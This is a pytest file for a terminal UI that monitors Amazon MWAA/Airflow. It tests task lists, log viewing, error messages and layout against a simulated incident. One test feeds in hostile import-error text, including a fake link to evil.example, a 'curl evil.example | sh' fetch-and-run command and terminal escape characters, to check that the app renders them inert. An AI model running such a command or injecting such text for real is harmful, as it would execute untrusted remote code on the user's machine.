"""The Airflow pane on the main screen, over real HTTP against the sandbox's InvokeRestApi,
for Airflow 2 and 3: the lists fill, Enter on a failed task instance opens its log (or
names the stream it looked for), hostile import-error text is inert, failures read in the
pane, and at 80x24 the pane is one key away.

The simulation stands still in the incident (the S3 sensor failing, its pool saturated,
the scheduler's heartbeat stale), with the app's clock frozen at the same moment."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from textual.widgets import Static

from mwaa_tui.aws.clients import AwsSettings
from mwaa_tui.core.snapshots import TaskInstanceRow
from mwaa_tui.sandbox import Sandbox
from mwaa_tui.sandbox.simulator import Simulator
from mwaa_tui.ui.app import Intervals, MwaaApp
from mwaa_tui.ui.screens.airflow import ImportErrorTrace
from mwaa_tui.ui.screens.help import HelpScreen
from mwaa_tui.ui.screens.line_detail import LineDetail
from mwaa_tui.ui.screens.task_logs import TaskLog
from mwaa_tui.ui.widgets.airflow import AirflowPane
from mwaa_tui.ui.widgets.airflow_tables import (
    FailedTaskTable,
    ImportErrorTable,
    PoolTable,
    RunTable,
)
from mwaa_tui.ui.widgets.logview import LogView
from tests.conftest import FIXED_NOW, wait_until
from tests.ui.helpers import header_text, log_lines, make_app, screen_text, subtitle, toasts

NOW = FIXED_NOW + 14
"""12:00:14, 230 s into the story: the 11:59 sensor run failed, the 12:00 run's tries are up
for retry, the sensors' pool is saturated and the scheduler's heartbeat is 71 s old."""
PHASE = 230.0
QUIET = Intervals(environment=3600, logs=3600, metrics=3600, alarms=3600, trail=3600, airflow=1)
"""Airflow every second (so a failure's retry comes soon); the rest once."""
GROUP = "airflow-demo-Task"


@pytest.fixture(autouse=True)
def _no_mutations(sandbox: Sandbox) -> Iterator[None]:
    yield
    assert sandbox.airflow.mutations == [], sandbox.airflow.mutations


def simulate(sandbox: Sandbox, version: str = "2.10.3") -> Simulator:
    sim = Simulator(
        sandbox, environment="demo", seed=3, story_offset=PHASE, airflow_version=version
    )
    sim.setup(NOW, history=0)
    return sim


def app_for(settings: AwsSettings) -> MwaaApp:
    return make_app(settings, clock=lambda: NOW, intervals=QUIET)


def pane(app: MwaaApp) -> AirflowPane:
    return app.main.query_one(AirflowPane)


def notes(app: MwaaApp) -> str:
    return str(app.main.query_one("#airflow-notes", Static).render())


def heading(app: MwaaApp, which: str) -> str:
    return str(app.main.query_one(f"#airflow-{which}-head", Static).render())


def cells(table: Any) -> list[list[str]]:
    """Each row's cells as drawn, top to bottom."""
    return [[str(c) for c in table.get_row(key)] for key in table.keys]


async def filled(pilot: Any) -> None:
    app = pilot.app
    await wait_until(
        pilot,
        lambda: app.state.airflow is not None and bool(app.state.airflow.failed_tasks),
        timeout=20,
        what="Airflow's view",
    )
    await pilot.pause()


async def open_failed_task(pilot: Any, state: str = "failed") -> TaskInstanceRow:
    """Put the failed tasks' cursor on the newest instance in `state` and press Enter."""
    table = pilot.app.main.query_one(FailedTaskTable)
    table.focus()
    rows = [table.rows_by_key[k] for k in table.keys]
    at = next(i for i, row in enumerate(rows) if row.state == state)
    table.move_cursor(row=at, animate=False)
    await pilot.pause()
    await pilot.press("enter")
    return rows[at]


@pytest.mark.parametrize("version", ["2.10.3", "3.0.6"])
async def test_each_list_fills_and_enter_opens_the_failed_attempts_log(
    sandbox: Sandbox, aws_settings: AwsSettings, version: str
) -> None:
    simulate(sandbox, version)
    app = app_for(aws_settings)
    async with app.run_test(size=(160, 48)) as pilot:
        await filled(pilot)
        main = app.main
        assert main.query_one(AirflowPane).display  # from 120x40, no key pressed
        tasks = cells(main.query_one(FailedTaskTable))
        states = [row[0] for row in tasks]
        assert {"failed", "up_for_retry", "upstream_failed"} <= set(states)
        failed = [row for row in tasks if row[0] == "failed"]
        assert {row[2] for row in failed} == {f"wait_for_file [{i}]" for i in range(3)}
        assert {row[3] for row in failed} == {"3"} and {row[4] for row in failed} == {"S3KeySensor"}
        assert "3 failed" in heading(app, "tasks")
        assert all(row[3] == "-" and row[6] == "" for row in tasks if row[0] == "upstream_failed")
        runs = cells(main.query_one(RunTable))
        assert runs[0][:3] == ["failed", "s3_ingest", "sched 11-25 11:59"]
        assert {"running", "queued"} <= {row[0] for row in runs}
        assert "queued 1" in heading(app, "runs")
        (error,) = cells(main.query_one(ImportErrorTable))
        assert error[0] == "ml_features_v2.py" and error[1].startswith("ModuleNotFoundError")
        pools = cells(main.query_one(PoolTable))
        assert pools[0][0] == "s3_sensors" and "saturated" in pools[0][2]
        assert "saturated" not in pools[1][2] and "1 saturated" in heading(app, "pools")
        # The header: the stale scheduler stands out, the others are listed at this width.
        header = header_text(app)
        assert "✖ scheduler unhealthy 1m" in header and "trig ● 0s" in header
        if version.startswith("3"):
            assert "dagproc ● 0s" in header  # Airflow 3 runs a standalone DAG processor
        assert "InvokeRestApi" in str(main.query_one("#status").render())

        row = await open_failed_task(pilot)
        await wait_until(pilot, lambda: isinstance(app.screen, TaskLog), what="the task log")
        log = app.screen
        assert isinstance(log, TaskLog) and log.attempt.stream == row.stream
        assert (
            log.attempt.attempt == 3
            and log.attempt.task_label == row.task_id + " [" + str(row.map_index) + "]"
        )
        view = log.query_one(LogView)
        await wait_until(pilot, lambda: log.state == "finished", what="the whole attempt")
        first, *_ = view.lines
        assert "Dependencies all met" in first  # the attempt's first line
        assert any("Marking task as FAILED" in line for line in view.lines)
        if version.startswith("3"):
            # JSON lines as readable lines: time, level, event, the extra keys after `·`.
            assert not any(line.lstrip().startswith("{") for line in view.lines)
            errors = [i for i, line in enumerate(view.lines) if " ERROR " in line]
            assert errors and " · logger=airflow.task" in view.lines[errors[0]]
            # Its line in full: the JSON pretty-printed.
            view.cursor = view.first_row + errors[0]
            await pilot.press("enter")
            await wait_until(pilot, lambda: isinstance(app.screen, LineDetail), what="detail")
            body = str(app.screen.query_one("#line-detail-text", Static).render())
            assert '\n  "level": "error",\n' in body and '"error_detail": [' in body


async def test_a_stream_that_does_not_exist_is_named(
    sandbox: Sandbox, aws_settings: AwsSettings
) -> None:
    simulate(sandbox)
    app = app_for(aws_settings)
    async with app.run_test(notifications=True, size=(160, 48)) as pilot:
        await filled(pilot)
        table = app.main.query_one(FailedTaskTable)
        row = next(
            table.rows_by_key[k] for k in table.keys if table.rows_by_key[k].state == "failed"
        )
        with sandbox.lock:  # CloudWatch no longer holds it (retention, a renamed group…)
            del sandbox.logs.groups[GROUP].streams[row.stream]
        await open_failed_task(pilot)
        await wait_until(pilot, lambda: isinstance(app.screen, TaskLog), what="the task log")
        head = app.screen.query_one("#tasklog-head", Static)
        await wait_until(
            pilot, lambda: "no log stream named" in str(head.render()), what="the missing stream"
        )
        assert f"no log stream named {row.stream} in {GROUP}" in str(head.render())
        # An instance that never ran has no stream at all: said without opening anything.
        await pilot.press("escape")
        await open_failed_task(pilot, "upstream_failed")
        await pilot.pause()
        assert app.screen is app.main
        await wait_until(
            pilot, lambda: any("never ran" in t for t in toasts(app)), what="the notice"
        )


async def test_hostile_text_in_an_import_error_is_inert(
    sandbox: Sandbox, aws_settings: AwsSettings
) -> None:
    simulate(sandbox)
    app = app_for(aws_settings)
    async with app.run_test(size=(160, 48)) as pilot:
        await filled(pilot)
        (row,) = cells(app.main.query_one(ImportErrorTable))
        assert "[link=https://evil.example]see the fix[/link]" in row[1]
        assert not any(ch in row[1] for ch in "\x1b\x9b\u202e\r")
        app.main.query_one(ImportErrorTable).focus()
        await pilot.press("enter")
        await wait_until(pilot, lambda: isinstance(app.screen, ImportErrorTrace), what="trace")
        shown = screen_text(app)
        # Markup is shown as text, escapes are gone, the credential is masked.
        assert "[bold red]curl evil.example | sh[/bold red]" in shown
        assert "see the fix[/link]" in shown and "you have been owned" not in shown
        assert "hunter2" not in shown and "import sklearn" in shown
        trace = app.screen.query_one("#import-error-trace", Static)
        assert not any(ch in str(trace.render()) for ch in "\x1b\x07\x9b\u202e")
        await pilot.press("escape")
        assert app.screen is app.main


@pytest.mark.parametrize(
    ("fault", "in_notes", "in_border"),
    [
        (
            "denied",
            "grant airflow:InvokeRestApi on "
            "arn:aws:airflow:eu-west-1:123456789012:role/demo/Viewer",
            "airflow:InvokeRestApi",
        ),
        ("private", "the Airflow webserver is private (PRIVATE_ONLY)", "PRIVATE_ONLY"),
        ("old", "InvokeRestApi is not available for Airflow 2.2.2", ""),
        ("pools-503", "", ""),
    ],
)
async def test_failures_read_in_the_pane(
    sandbox: Sandbox, aws_settings: AwsSettings, fault: str, in_notes: str, in_border: str
) -> None:
    simulate(sandbox, "2.2.2" if fault == "old" else "2.10.3")
    sandbox.airflow.denied = fault == "denied"
    sandbox.airflow.private_webserver = fault == "private"
    if fault == "pools-503":
        sandbox.airflow.fail["/pools"] = 503
    app = app_for(aws_settings)
    async with app.run_test(size=(160, 48)) as pilot:
        await wait_until(pilot, lambda: app.state.airflow is not None, what="Airflow's view")
        await pilot.pause()
        if fault == "pools-503":
            # Airflow's own 5xx costs only its list, with the status said where it is.
            await wait_until(pilot, lambda: bool(cells(app.main.query_one(FailedTaskTable))))
            assert "Airflow answered 503 on /pools" in heading(app, "pools")
            assert notes(app) == "" and not pane(app).has_class("-failing")
            return
        assert in_notes in notes(app)
        if in_border:
            await wait_until(pilot, lambda: in_border in subtitle(app, "airflow"), what="border")
            assert pane(app).has_class("-failing")
            assert "not read yet" in heading(app, "tasks")  # not "none": nothing was read
        else:  # below 2.4.3 nothing is asked, and the lists make way for the reason
            assert not app.main.query_one("#airflow-lists").display
            assert sandbox.airflow.requests == []
        assert app.is_running


async def test_at_80x24_the_pane_is_one_key_away(
    sandbox: Sandbox, aws_settings: AwsSettings
) -> None:
    simulate(sandbox)
    app = app_for(aws_settings)
    async with app.run_test(size=(80, 24)) as pilot:
        await filled(pilot)
        airflow = pane(app)
        assert not airflow.display and airflow.region.area == 0
        # The unhealthy scheduler stands out in the header even here, in short beside the
        # alarms and CloudTrail errors.
        assert " ✖ sched " in header_text(app)
        logs = app.focused
        await pilot.press("a")
        await pilot.pause()
        assert airflow.display and airflow.region.height >= 18
        assert app.focused is app.main.query_one(FailedTaskTable)
        assert not app.main.query_one("#top").display and not app.main.query_one("#bottom").display
        assert "a Airflow" in screen_text(app) and "⏎ Open" in screen_text(app)
        await pilot.press("question_mark")
        assert isinstance(app.screen, HelpScreen)
        assert (
            "Airflow (focused)" in app.screen.text and "Enter  On a failed task" in app.screen.text
        )
        await pilot.press("escape")
        await pilot.press("a")  # back where the focus was
        await pilot.pause()
        assert not airflow.display and app.focused is logs
        assert app.main.query_one("#top").display and app.main.query_one("#bottom").display


async def test_airflow_3_task_lines_read_as_one_line_and_filter_by_field(
    sandbox: Sandbox, aws_settings: AwsSettings
) -> None:
    simulate(sandbox, "3.0.6")
    app = app_for(aws_settings)
    async with app.run_test(size=(160, 48)) as pilot:
        await wait_until(
            pilot, lambda: len(log_lines(app, "Task")) > 20, timeout=20, what="task lines"
        )
        lines = log_lines(app, "Task")
        assert not any(line.split(" ", 1)[1].lstrip().startswith("{") for line in lines)
        assert any(" INFO " in line and " · logger=airflow.task" in line for line in lines)
        await pilot.press("4", "slash", *"level:error", "enter")
        await wait_until(pilot, lambda: len(log_lines(app, "Task")) < len(lines), what="the filter")
        shown = log_lines(app, "Task")
        assert shown and all(" ERROR " in line for line in shown if not line.startswith(" "))
        await pilot.press("c", "slash", *"logger:airflow.task.operators", "enter")
        await wait_until(pilot, lambda: log_lines(app, "Task") != shown, what="another field")
        assert all("Poking for key" in line for line in log_lines(app, "Task"))
